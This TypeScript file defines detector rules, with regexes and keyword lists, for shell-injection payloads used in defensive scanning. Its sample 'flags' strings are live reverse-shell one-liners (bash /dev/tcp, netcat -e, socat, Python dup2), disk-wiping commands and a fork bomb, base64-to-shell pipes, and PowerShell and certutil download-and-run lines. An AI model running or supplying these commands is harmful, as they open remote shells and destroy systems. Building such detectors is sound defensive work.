import { rx } from '../rules/pattern-rule.ts'
import type { PayloadRule } from './categories.ts'

const SHELL = String.raw`(?:\/(?:usr\/)?bin\/)?(?:env\s{1,3})?(?:ba|z|da|k|c|tc|a)?sh\b`
const INTERPRETER = String.raw`(?:(?:sudo\s{1,3}(?:-\w{1,3}\s{1,3})?)?(?:${SHELL}|python[\d.]{0,4}|perl|ruby|node|php|pwsh|source\b|xargs\s))`

const shared = { category: 'shell_injection', cwe: 'CWE-78' } as const

/** Command lines that take over or destroy a machine, in any text. */
export const shellTakeoverRules: readonly PayloadRule[] = [
  {
    ...shared,
    id: 'shell-reverse',
    severity: 'critical',
    title: 'Shell handed to a remote host',
    anchors: [
      '/dev/tcp/',
      '/dev/udp/',
      'mkfifo',
      'mknod',
      'ncat',
      'nc ',
      'netcat',
      'nc.',
      'socat',
      'dup2',
      'pty.spawn',
      'fsockopen',
      'tcpsocket',
      'tcpclient',
      'socket.socket',
      'use socket',
      'net.socket',
      'io::socket',
    ],
    before: 100,
    after: 240,
    find: rx`(?:(?:>|<)\s{0,3}&?\s{0,3}\/dev\/(?:tcp|udp)\/[\w.$\{\}-]{1,60}\/[\w$\{\}]{1,10}|(?:mkfifo|mknod)\s[^\n]{1,60}(?:;|&&)[^\n]{0,80}(?:\bnc\b|ncat|netcat|telnet|openssl s_client)|\b(?:nc|ncat|netcat|nc\.(?:traditional|openbsd|exe))\s[^\n|;]{0,60}(?:-\w{0,4}[ec]\w{0,2}|--(?:exec|sh-exec))\s{1,3}["']?(?:\/bin\/|\/usr\/bin\/|cmd|bash|sh\b|powershell)|socat\s[^\n]{0,80}(?:exec|system):["']?(?:\/\w{1,8}\/){0,3}(?:(?:ba|z|da|k)?sh|cmd|powershell|login)\b|socket\.socket[^\n]{0,160}(?:dup2|subprocess|pty\.spawn)|dup2\([^\n]{0,120}(?:\/bin\/(?:ba)?sh|subprocess)|fsockopen\([^\n]{0,80}(?:exec|proc_open|shell_exec|passthru|\/bin\/sh)|tcpsocket\.(?:new|open)\([^\n]{0,80}(?:exec|\/bin\/sh|popen)|sockets\.tcpclient\([^\n]{0,200}(?:iex|invoke-expression|getstream)|use socket;[^\n]{0,160}exec|io::socket[^\n]{0,160}(?:exec|\/bin\/sh)|net\.socket\(\)[^\n]{0,160}(?:spawn|\/bin\/sh))`,
    flags: [
      'bash -i >& /dev/tcp/10.0.0.9/4444 0>&1',
      'nc 10.0.0.9 9001 -e /bin/sh',
      'mkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc h 1 > /tmp/p',
      "import socket,os;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0)",
    ],
    ignores: [
      'nc -zv db.internal 5432',
      'socket.socket(socket.AF_INET)\ns.bind(("", 80))',
      'exec 3<>file',
      'nc is short for netcat',
    ],
  },
  {
    ...shared,
    id: 'shell-destroy',
    severity: 'critical',
    title: 'Command that destroys a system',
    anchors: [
      'rm -',
      'rm  -',
      'rm   -',
      'rm    -',
      'rm\t-',
      'rm${',
      'mkfs',
      'of=/dev/',
      '> /dev/sd',
      '>/dev/sd',
      '> /dev/nvme',
      ':|:',
      ': | :',
      'format c:',
      'del /',
      'rd /s',
      'vssadmin',
      'shred ',
      'chmod ',
    ],
    before: 48,
    after: 80,
    find: rx`(?:\brm(?:\s{1,4}|\$\{IFS\})(?:-{1,2}[\w-]{1,18}\s{1,4}){1,4}(?:"|')?(?:\/(?:\*|\s|$|"|'|;|&|\||\)|\x60|(?:etc|usr|var|boot|bin|home|root|lib|opt|srv)(?:\/\*)?(?:\s|$|;|&|\)|"|'|\x60))|~\/?(?:\s|$|;|\*)|\$HOME\/?(?:\s|$|;|\*)|\/\.\.|--no-preserve-root)|\brm\s{1,4}-\w{1,4}\s{1,4}--no-preserve-root|[;&|\x60]\s{0,4}mkfs(?:\.\w{2,5})?\s{1,4}\/dev\/|\bdd\s[^\n;|]{0,60}of=\/dev\/(?:sd[a-z]|nvme|hd[a-z]|vd[a-z])(?!\w?\d?\s{0,2}bs=4m)|>\s{0,3}\/dev\/(?:sd[a-z]|nvme\d)|:\(\)\s{0,3}\{\s{0,3}:\s{0,3}\|\s{0,3}:|\bformat\s{1,3}c:|\bdel\s{1,3}\/[fsq]\s[^\n]{0,20}(?:c:\\|\*\.\*)|\brd\s{1,3}\/s\s{1,3}\/q\s{1,3}c:\\|vssadmin\s{1,3}delete\s{1,3}shadows|[;&|\x60]\s{0,4}chmod\s{1,3}-R\s{1,3}777\s{1,3}\/(?:\s|$|;))`,
    verify(match, text) {
      const before = text.slice(Math.max(0, match.index - 12), match.index)
      if (!/^rm|^dd/i.test(match[0])) return 1
      return /(?:[;|`]|&&|\$\(|%0a|["'])\s{0,4}(?:sudo\s{1,3})?$/i.test(before) ||
        /no-preserve-root|\/\*/.test(match[0])
        ? 1
        : 0.6
    },
    flags: [
      'foo.txt; rm -rf /',
      'rm -rf --no-preserve-root /',
      ':(){ :|:& };:',
      'x && dd if=/dev/zero of=/dev/sda',
      'rm -fr ~/',
    ],
    ignores: [
      'rm -rf node_modules',
      'rm -rf ./dist && npm run build',
      'rm -rf /tmp/build-cache',
      'dd if=a.iso of=b.img',
      'chmod -R 755 public',
    ],
  },
  {
    ...shared,
    id: 'shell-decode-run',
    severity: 'high',
    title: 'Hidden command that is decoded and run',
    anchors: [
      'base64',
      'xxd',
      'shellshock',
      '() {',
      '(){',
      'rev |',
      'rev<<<',
      'rev <<<',
      'printf',
      'rev|',
      'openssl enc',
    ],
    before: 120,
    after: 120,
    find: rx`(?:(?:base64|base32)\s{1,3}(?:-\w{0,3}[dD]\w{0,3}|--decode)\b[^\n|;]{0,40}\|\s{0,4}${INTERPRETER}|xxd\s{1,3}-r\s?-?p?[^\n|;]{0,24}\|\s{0,4}${INTERPRETER}|\brev\s{0,2}(?:<<<[^\n|]{1,60})?\|\s{0,3}${SHELL}|printf\s{1,3}(?:--\s)?[\"'](?:\\(?:x[0-9a-f]{2}|[0-7]{3})){3,60}[^\n]{0,60}(?:\|\s{0,3}${SHELL}|\))|${SHELL}\s{0,3}(?:<<<|<\(|-c\s{0,2}["']?\$\()[^\n]{0,80}base64\s{1,3}-{1,2}d|eval\s{0,3}["']?(?:\$\(|\x60)[^\n]{0,100}base64\s{1,3}-{1,2}d|\(\)\s{0,2}\{\s{0,2}:;\s{0,2}\}\s{0,2};)`,
    flags: ['echo aWQ= | base64 -d | sh', 'eval $(echo aWQ= | base64 --decode)', '() { :; }; /bin/id'],
    ignores: ['base64 -d key.b64 > key.pem', 'echo aGk= | base64 --decode', 'function() { return }'],
  },
  {
    ...shared,
    id: 'shell-windows',
    severity: 'high',
    title: 'Windows command line that loads or hides code',
    anchors: [
      'powershell',
      'pwsh',
      'iex',
      'invoke-expression',
      'downloadstring',
      'certutil',
      'mshta',
      'regsvr32',
      'bitsadmin',
      'rundll32',
      'wmic ',
    ],
    before: 80,
    after: 200,
    find: rx`(?:(?:powershell|pwsh)(?:\.exe)?\s[^\n]{0,80}-e(?:nc?|ncodedcommand)?\s{1,4}[a-z0-9+/=]{16,200}|(?:iex|invoke-expression)\b[\s("'&]{0,6}[^\n]{0,60}(?:downloadstring|invoke-webrequest|iwr|webclient|frombase64string)|downloadstring\([^\n)]{1,100}\)\s{0,3}\|\s{0,3}(?:iex|invoke-expression)|certutil(?:\.exe)?\s[^\n]{0,40}-urlcache\s[^\n]{0,60}http|mshta(?:\.exe)?\s{1,3}["']?(?:https?:|javascript:|vbscript:)|regsvr32\s[^\n]{0,40}\/i:http|bitsadmin\s[^\n]{0,40}\/transfer\s[^\n]{0,40}http|rundll32(?:\.exe)?\s{1,3}javascript:|wmic\s{1,3}process\s{1,3}call\s{1,3}create)`,
    verify(match) {
      // Installers are documented as a download from a named host over https.
      const line = match.input.slice(match.index, match.index + match[0].length + 80).split('\n', 1)[0] ?? ''
      return /^(?:iex|invoke-expression|downloadstring)/i.test(match[0]) && /https:\/\/[a-z][\w-]*\.[a-z]/i.test(line)
        ? 0.5
        : 1
    },
    flags: [
      'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A',
      "IEX (New-Object Net.WebClient).DownloadString('http://h/a.ps1')",
      'certutil -urlcache -f http://h/x.exe x.exe',
    ],
    ignores: [
      'powershell -File build.ps1',
      'rundll32 shell32.dll,Control_RunDLL',
      'Invoke-WebRequest https://h.example/a.zip -OutFile a.zip',
    ],
  },
]
